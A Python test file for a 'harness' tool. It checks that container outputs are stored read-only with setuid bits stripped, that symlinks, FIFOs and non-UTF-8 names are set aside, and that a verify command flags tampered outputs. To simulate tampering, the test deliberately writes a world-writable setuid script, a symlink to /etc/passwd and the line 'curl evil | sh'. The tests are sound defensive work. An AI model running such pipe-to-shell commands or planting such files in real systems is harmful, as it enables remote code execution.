"""A real run's outputs, against the real Docker engine: stored read-only whatever modes the container left, what a
record cannot hold set aside and named while the run keeps its status, and `harness verify` comparing
runs/<id>/outputs with the record."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from tests.projects import commit_all, harness, valid_record

# Runs as the container's user (nobody, when harness runs as root) and leaves what the issue found: a world-
# writable directory, a setuid world-writable script, and beside good files what no record can hold.
WRITER = r"""
import os
out = os.environ["HARNESS_OUTPUTS"]
with open(f"{out}/good.txt", "w") as fh:
    fh.write("good\n")
os.mkdir(f"{out}/open")
os.chmod(f"{out}/open", 0o777)
with open(f"{out}/open/run.sh", "w") as fh:
    fh.write("#!/bin/sh\necho hi\n")
os.chmod(f"{out}/open/run.sh", 0o4777)
with open(f"{out}/" + "n" * 255, "w") as fh:
    fh.write("a name as long as ext4 allows\n")
os.symlink("/etc/passwd", f"{out}/passwd")
os.mkfifo(f"{out}/pipe")
with open(os.fsencode(out) + b"/latin1-\xe9.txt", "w") as fh:
    fh.write("caf\xe9\n")
print("run.sh mode", oct(os.stat(f"{out}/open/run.sh").st_mode), flush=True)
"""


@pytest.fixture()
def project(probe_project: Path) -> Path:
    (probe_project / "writer.py").write_text(WRITER)
    commit_all(probe_project, "an entry point that writes awkward outputs")
    return probe_project


def run_writer(project: Path) -> dict[str, Any]:
    result = harness(project, "run", "--", "python", "writer.py")
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    [run_id] = os.listdir(project / ".harness" / "runs")
    record = json.loads((project / ".harness" / "runs" / run_id / "record.json").read_text())
    record["_stderr"] = result.stderr
    return record


def verify(project: Path, *args: str, code: int) -> dict[str, Any]:
    result = harness(project, "verify", *args, "--json")
    assert result.returncode == code, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    report: dict[str, Any] = json.loads(result.stdout)
    return report


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def test_a_run_with_outputs_no_record_can_hold_succeeds_records_the_rest_and_names_each_skipped_one(
    project: Path,
) -> None:
    record = run_writer(project)
    stderr = record.pop("_stderr")
    run_dir = project / ".harness" / "runs" / record["id"]
    assert "run.sh mode 0o104777" in (run_dir / "log.txt").read_text()  # the container really set those bits

    valid_record(record)
    assert record["status"] == "succeeded" and record["exit_code"] == 0 and "error" not in record
    outputs = record["outputs"]
    assert set(outputs["files"]) == {"good.txt", "open/run.sh", "n" * 255} and outputs["read_only"] is True
    reasons = {s["path"]: s["reason"] for s in outputs["skipped"]}
    assert set(reasons) == {"passwd", "pipe", "latin1-\\xe9.txt"}
    assert "'/etc/passwd', outside the outputs directory" in reasons["passwd"]
    assert "FIFO" in reasons["pipe"] and "not valid UTF-8" in reasons["latin1-\\xe9.txt"]
    assert "warning: 3 output(s) not recorded" in stderr and "pipe: it is a FIFO" in stderr
    assert "warning  3 output(s) not recorded" in stderr  # and again in the summary

    # Read-only whatever the container left, owned by harness's user, the setuid bit gone.
    out = run_dir / "outputs"
    owner = (os.geteuid(), os.getegid())
    assert mode(out) == mode(out / "open") == 0o755
    assert mode(out / "open" / "run.sh") == 0o555 and mode(out / "good.txt") == mode(out / ("n" * 255)) == 0o444
    for p in (out, out / "open", out / "open" / "run.sh"):
        assert (p.lstat().st_uid, p.lstat().st_gid) == owner
    sha = outputs["files"]["good.txt"]
    assert os.path.samefile(out / "good.txt", project / ".harness" / "objects" / sha[:2] / sha[2:])
    # Set aside, not deleted, and not left in the outputs directory.
    assert sorted(os.listdir(os.fsencode(run_dir / "skipped"))) == [b"latin1-\xe9.txt", b"passwd", b"pipe"]
    assert sorted(os.listdir(out)) == sorted(["good.txt", "open", "n" * 255])

    shown = harness(project, "show", record["id"])
    assert shown.returncode == 0, shown.stderr
    assert "skipped" in shown.stdout and "pipe: it is a FIFO" in shown.stdout
    assert "latin1-\\xe9.txt: its name is not valid UTF-8" in shown.stdout

    report = verify(project, "--run", record["id"], code=0)
    assert report["ok"] and report["output_dirs"] == 1 and report["outputs"] == []


def test_verify_names_an_output_modified_added_removed_or_made_writable_after_the_run(project: Path) -> None:
    record = run_writer(project)
    out = project / ".harness" / "runs" / record["id"] / "outputs"
    assert verify(project, code=0)["ok"]

    with open(out / "open" / "run.sh", "a") as fh:  # what another user did to the 0777 script before
        fh.write("curl evil | sh\n")
    (out / "planted.txt").write_text("not from the run\n")
    (out / "good.txt").unlink()
    os.chmod(out / "open", 0o777)

    report = verify(project, "--run", record["id"][:4], code=107)
    found = {(p["path"], p["problem"]) for p in report["outputs"]}
    assert found == {("open/run.sh", "modified"), ("planted.txt", "added"), ("good.txt", "missing"), ("open", "mode")}
    assert not report["ok"] and all(p["run"] == record["id"] for p in report["outputs"])
    assert report["problems"] == []  # the store objects themselves are intact

    text = harness(project, "verify")  # store-wide, as people read it
    assert text.returncode == 107
    assert f"OUTPUT MODIFIED: runs/{record['id']}/outputs/open/run.sh" in text.stdout
    assert f"OUTPUT ADDED: runs/{record['id']}/outputs/planted.txt" in text.stdout
    assert "4 file(s) in run outputs directories failed verification" in text.stderr
